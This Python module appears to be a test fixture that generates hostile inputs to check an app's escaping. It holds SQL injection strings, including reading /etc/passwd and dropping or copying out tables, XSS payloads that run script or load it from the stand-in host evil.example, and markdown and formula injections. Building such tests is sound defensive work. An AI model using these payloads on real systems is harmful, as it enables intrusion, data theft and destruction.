"""What has been put into names, filters and addresses to make a database, a browser or a spreadsheet obey."""

from itertools import product

from tests.marsad.exports.payloads import PAYLOADS as FORMULAS

CLOSERS = ("'", "')", "'))", '"', "';", "' /*", "$$", "\\'", "0)")
BODIES = (
    "or 1=1 --",
    "or 'a'='a",
    "union select * from candidate --",
    "union all select content from read_text('/etc/passwd') --",
    "; drop table headcount --",
    "; copy headcount to '/tmp/marsad-out' --",
    "; attach '/tmp/marsad.duckdb' as x --",
    "; set enable_external_access=true --",
    "; install httpfs --",
    "and 1=(select count(*) from duckdb_tables()) --",
    "|| (select string_agg(school, ',') from school) ||",
    "or exists(select 1 from school) --",
)
SQL = [f"{closer} {body}" for closer, body in product(CLOSERS, BODIES)]
SQL += ["$1", "?", ":school", "$school", "NULL", "{{7*7}}", "${7*7}", "%27%20or%201=1"]

RUN = "window.hacked=1"
ELEMENTS = (
    f"<script>{RUN}</script>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={RUN}>",
    "<img src=//evil.example/x.png>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>">',
    f"<iframe src=javascript:parent.{RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video src=x onerror={RUN}>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/x.css'</style>",
    f"<math><mtext><mglyph><style><img src=x onerror={RUN}>",
    f"<template><img src=x onerror={RUN}></template>",
)
XSS = [f"{before}{element}" for before, element in product(("", '">', "</title>"), ELEMENTS)]
XSS += [f"javascript:{RUN}", f"&lt;img src=x onerror={RUN}&gt;", f"\\x3cscript\\x3e{RUN}", f"`${{{RUN}}}`"]

MARKDOWN = [
    "[x](https://evil.example)",
    f"[x](javascript:{RUN})",
    "![i](https://evil.example/i.png)",
    "<https://evil.example>",
    "https://evil.example/a",
    "www.evil.example",
    "a@evil.example",
    "mailto:a@evil.example",
    ":streamlit:",
    ":material/home:",
    ":red[x]",
    ":red-background[x]",
    ":smile:",
    "$x^2$",
    "# H",
    "- li",
    "1. li",
    "> q",
    "**b**",
    "_b_",
    "~~s~~",
    "`c`",
    "<b>x</b>",
    "| a | b |",
    "[^1]",
    "a -> b -- c",
    "\\[x\\](https://evil.example)",
]
HOSTILE = [*MARKDOWN, *XSS, *SQL, *FORMULAS]
